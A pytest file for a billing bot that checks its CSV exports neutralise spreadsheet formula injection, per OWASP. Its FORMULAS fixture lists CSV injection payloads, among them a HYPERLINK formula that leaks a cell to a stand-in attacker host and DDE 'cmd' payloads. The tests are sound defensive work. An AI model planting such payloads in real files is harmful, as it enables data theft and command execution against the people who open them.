"""Every CSV the bot writes neutralises formulas (OWASP's rule against CSV injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path

import pytest

from bot.authz import Authorizer, NoGroups
from bot.catalog import DEFAULT_STORAGE_PACKAGES
from bot.config import load_settings
from bot.csv_files import csv_bytes
from bot.exports import month_files
from bot.i18n import Translator
from bot.importer import import_file
from bot.payments import parse_transfer, receive_transfer
from bot.reminders import AccountItem
from bot.services import Services
from bot.storage_orders import InvoiceInfo, PlaceOrder, place_order
from handlers.blocks import reminders as blocks
from storage.models import Subscription
from tests.factories import row, write_csv

# What a spreadsheet would run: formulas, DDE, and the characters OWASP lists before them.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Công ty Cổ phần MISA", "0101243150-001", "a=b", " =1", "LT261120ABCDEF", ""]


def read(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_text_cells_that_start_a_formula_get_a_quote() -> None:
    rows = read(csv_bytes(("name", "amount"), [(text, -5) for text in FORMULAS + HARMLESS]))
    assert [r[0] for r in rows[1:]] == ["'" + text for text in FORMULAS] + HARMLESS
    # A number is a number by construction: a negative amount stays a negative number.
    assert {r[1] for r in rows[1:]} == {"-5"}


def test_reminder_csv_neutralises_customer_names() -> None:
    items = [
        AccountItem(
            subscription_id=n,
            customer=name,
            tax_code="0101243150",
            product="AMIS_KT",
            contract_no=f"HD-{n}",
            expires_on=date(2026, 11, 1),
            owner=None,
            days=3,
        )
        for n, name in enumerate(FORMULAS)
    ]
    t = Translator()
    made = blocks.accounts_csv(t, items, blocks.deletion_columns(t), name="x.csv")
    assert [r[0] for r in read(made.content)[1:]] == ["'" + name for name in FORMULAS]


@pytest.fixture
def services(database_url: str, tmp_path: Path) -> Iterator[Services]:
    settings = load_settings(
        _env_file=None, database_url=database_url, bank_account_no="0123456789"
    )
    created = Services.create(settings)
    yield created
    created.db.dispose()


def test_finance_export_neutralises_names_and_bank_fields(
    services: Services, tmp_path: Path
) -> None:
    """Customer names come from imports; gateway, content and reference from the bank."""
    now = services.clock.now()  # orders are stamped by the database's clock
    name = FORMULAS[0]
    customers = [row("0101243150", name, "HD-CSV", now.date() - timedelta(days=5))]
    assert import_file(services.db, write_csv(tmp_path / "c.csv", customers)).rejected == 0
    with services.db.session() as session:
        subscription_id = session.query(Subscription.id).scalar()
    invoice = InvoiceInfo(name, "0101243150", "Hà Nội", "An", "ketoan@example.vn", "")
    package = DEFAULT_STORAGE_PACKAGES[0].code
    command = PlaceOrder("csv-1", subscription_id, package, 1, vars(invoice), "U0STAFF", "C1")
    place_order(services, Authorizer(services.settings, NoGroups()), command, now)
    body = {
        "id": 991,
        "gateway": FORMULAS[3],
        "transactionDate": "2026-11-20 10:00:00",
        "accountNumber": "0123456789",
        "content": FORMULAS[1],
        "transferType": "in",
        "transferAmount": 100000,
        "referenceCode": FORMULAS[2],
    }
    receive_transfer(services, parse_transfer(body), now)

    orders, transfers = (
        list(csv.DictReader(io.StringIO(f.content.decode("utf-8-sig"), newline="")))
        for f in month_files(services, now.date().replace(day=1))
    )
    assert [o["customer"] for o in orders] == ["'" + name]
    assert [(t["gateway"], t["content"], t["reference_code"]) for t in transfers] == [
        ("'" + FORMULAS[3], "'" + FORMULAS[1], "'" + FORMULAS[2])
    ]
    assert transfers[0]["amount"] == "100000"
